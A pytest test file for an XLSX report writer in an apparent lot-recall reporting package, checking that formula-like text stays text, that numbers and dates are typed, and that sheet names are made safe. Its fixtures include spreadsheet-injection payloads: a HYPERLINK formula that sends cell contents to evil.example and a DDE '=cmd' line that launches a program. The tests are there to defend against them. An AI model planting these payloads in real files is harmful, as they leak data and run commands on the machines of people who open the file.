"""The shared XLSX kit, opened with openpyxl and read as XML: text stays text, numbers and dates are typed."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from bioseg.reporting import recall_report
from bioseg.reporting.xlsx import Column, Workbook, is_risky, number_format_for, safe_sheet_name, safe_text

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=cmd|" /C calc"!A0',
]
STATUS = {"released": ("released", "已放行"), "quarantine": ("in quarantine", "待验")}


def sheet_xml(data: bytes, n: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(f"xl/worksheets/sheet{n}.xml").decode()


def test_a_text_that_looks_like_a_formula_is_written_as_text():
    book = Workbook()
    sheet = book.sheet("Lots", ["批号 Lot number"])
    for value in INJECTIONS:
        sheet.append([value])
    data = book.to_bytes()
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # not one formula in the file
    ws = load_workbook(io.BytesIO(data))["Lots"]
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == INJECTIONS
    assert [c.data_type for c in cells] == ["s"] * len(INJECTIONS)
    assert [c.quotePrefix for c in cells] == [True] * len(INJECTIONS)  # Excel keeps them text when edited


def test_a_plain_text_has_no_quote_prefix_and_error_codes_stay_text():
    book = Workbook()
    sheet = book.sheet("S", ["a", "b", "c"])
    sheet.append(["LOT-1", "#N/A", "中文 name"])
    ws = load_workbook(io.BytesIO(book.to_bytes()))["S"]
    assert [(c.value, c.data_type, c.quotePrefix) for c in ws[2]] == [
        ("LOT-1", "s", False),
        ("#N/A", "s", False),
        ("中文 name", "s", False),
    ]


def test_characters_xml_cannot_hold_and_overlong_text_are_handled():
    assert safe_text("A\x00B\x1fC\tD") == "A\ufffdB\ufffdC\tD"
    long = safe_text("x" * 40_000)
    assert len(long) == 32_767 and long.endswith("…")
    book = Workbook()
    book.sheet("S", ["a"]).append(["bad\x01lot"])
    assert load_workbook(io.BytesIO(book.to_bytes()))["S"]["A2"].value == "bad\ufffdlot"


def test_risky_starts():
    assert [is_risky(v) for v in ("=a", "+a", "-a", "@a", "\ta", "\ra", "＠a", "a=b", "", "1-2")] == [
        True,
        True,
        True,
        True,
        True,
        True,
        True,
        False,
        False,
        False,
    ]


def test_numbers_are_numbers_with_their_decimals_as_recorded():
    book = Workbook()
    sheet = book.sheet("S", [Column("n", "number"), Column("auto")])
    for value in (Decimal("40000.000"), Decimal("12.50"), 7, 2.25, Decimal("-196.25")):
        sheet.append([value, value])
    ws = load_workbook(io.BytesIO(book.to_bytes()))["S"]
    got = [(c.value, c.data_type, c.number_format) for c in (row[0] for row in ws.iter_rows(min_row=2))]
    assert got == [
        (40000, "n", "#,##0"),
        (12.5, "n", "#,##0.0"),
        (7, "n", "#,##0"),
        (2.25, "n", "#,##0.00"),
        (-196.25, "n", "#,##0.00"),
    ]
    assert [row[1].value for row in ws.iter_rows(min_row=2)] == [40000, 12.5, 7, 2.25, -196.25]
    assert number_format_for(Decimal("1.1234567890123")) == "#,##0.0000000000"


def test_a_text_column_keeps_a_number_as_text():
    book = Workbook()
    book.sheet("S", [Column("批号", "text")]).append([20250301])
    cell = load_workbook(io.BytesIO(book.to_bytes()))["S"]["A2"]
    assert (cell.value, cell.data_type) == ("20250301", "s")


def test_dates_are_dates_and_times_are_utc():
    shanghai = dt.timezone(dt.timedelta(hours=8))
    book = Workbook()
    sheet = book.sheet("S", [Column("d", "date"), Column("t (UTC)", "datetime"), Column("auto")])
    sheet.append([dt.date(2025, 3, 6), dt.datetime(2025, 3, 2, 16, 0, tzinfo=shanghai), None])
    ws = load_workbook(io.BytesIO(book.to_bytes()))["S"]
    a, b, c = ws[2]
    assert (a.value, a.is_date, a.number_format) == (dt.datetime(2025, 3, 6), True, "yyyy-mm-dd")
    assert (b.value, b.is_date, b.number_format) == (dt.datetime(2025, 3, 2, 8, 0), True, "yyyy-mm-dd hh:mm:ss")
    assert c.value is None


def test_statuses_are_written_in_the_workbooks_language():
    for lang, expected in (
        ("zh", ["已放行", "待验", "unknown_code"]),
        ("en", ["released", "in quarantine", "unknown_code"]),
    ):
        book = Workbook(lang=lang)
        sheet = book.sheet("S", [Column("状态 Status", "status", labels=STATUS)])
        for code in ("released", "quarantine", "unknown_code"):
            sheet.append([code])
        ws = load_workbook(io.BytesIO(book.to_bytes()))["S"]
        assert [r[0].value for r in ws.iter_rows(min_row=2)] == expected
    with pytest.raises(ValueError, match="needs labels"):
        Column("s", "status")
    with pytest.raises(ValueError, match="unknown column kind"):
        Column("s", "formula")


def test_booleans_in_both_languages():
    for lang, expected in (("zh", ["是", "否"]), ("en", ["true", "false"])):
        book = Workbook(lang=lang)
        book.sheet("S", ["b"]).append([True, False])
        ws = load_workbook(io.BytesIO(book.to_bytes()))["S"]
        assert [c.value for c in ws[2]] == expected


def test_header_style_freeze_filter_and_widths():
    book = Workbook()
    sheet = book.sheet("S", [Column("批号 Lot number"), Column("n", width=33)])
    sheet.append(["A", 1])
    ws = load_workbook(io.BytesIO(book.to_bytes()))["S"]
    head = ws["A1"]
    assert (head.value, head.font.bold, head.fill.fgColor.rgb) == ("批号 Lot number", True, "001F4E79")
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:B1"
    assert ws.column_dimensions["A"].width == 17  # 2 × 2 CJK + 11 Latin + 2
    assert ws.column_dimensions["B"].width == 33


def test_sheet_names_are_made_safe_and_unique():
    assert safe_sheet_name("Lots") == "Lots"
    assert safe_sheet_name("a/b\\c[d]e:f*g?h") == "a_b_c_d_e_f_g_h"
    assert safe_sheet_name("'quoted'") == "quoted"
    assert safe_sheet_name("") == "Sheet"
    assert safe_sheet_name("History") == "History_"
    assert safe_sheet_name("x" * 40) == "x" * 31
    assert safe_sheet_name("lots", ["Lots"]) == "lots (2)"
    assert safe_sheet_name("x" * 40, ["x" * 31]) == "x" * 27 + " (2)"
    book = Workbook()
    for name in ("江苏省/上海市", "江苏省:上海市", "=cmd"):
        book.sheet(name, ["a"])
    assert load_workbook(io.BytesIO(book.to_bytes())).sheetnames == ["江苏省_上海市", "江苏省_上海市 (2)", "=cmd"]


def test_an_empty_workbook_still_opens():
    assert load_workbook(io.BytesIO(Workbook().to_bytes())).sheetnames == ["Sheet"]


def test_the_recall_workbook_writes_a_formula_like_lot_number_as_text():
    evil = '=HYPERLINK("http://evil.example","点击")'
    report = recall_report.RecallReport(
        lot_number=evil,
        product="+产品",
        direction="forward",
        generated_at=dt.datetime(2025, 4, 1, 9, 30, tzinfo=dt.UTC),
        lots=[
            [evil, "+产品", "@M", "released", Decimal("10"), "vial", dt.date(2025, 1, 10)]
            + ["-site", "=ent", "江苏省 / Jiangsu", 0, evil, "=SH", "-c"]
        ],
        shipments=[[evil, evil, Decimal("5"), "vial", "-a", "-b", "=c", "=d", None, None, evil]],
        consignees=[["=x", "-y", "+z", evil]],
    )
    data = recall_report.to_xlsx(report)
    for n in (1, 2, 3, 4):
        assert not re.search(r"<f[ >]", sheet_xml(data, n)), n
    wb = load_workbook(io.BytesIO(data))
    assert wb["Summary"]["B2"].value == evil and wb["Summary"]["B2"].data_type == "s"
    lot = wb["Lots"]["A2"]
    assert (lot.value, lot.data_type, lot.quotePrefix) == (evil, "s", True)
    assert [c.data_type for c in wb["Consignees"][2]] == ["s"] * 4
    pdf_text = recall_report.to_pdf(report)
    from tests.reporting import pdfcheck

    assert evil in pdfcheck.text(pdf_text)  # and in the PDF, printed as written
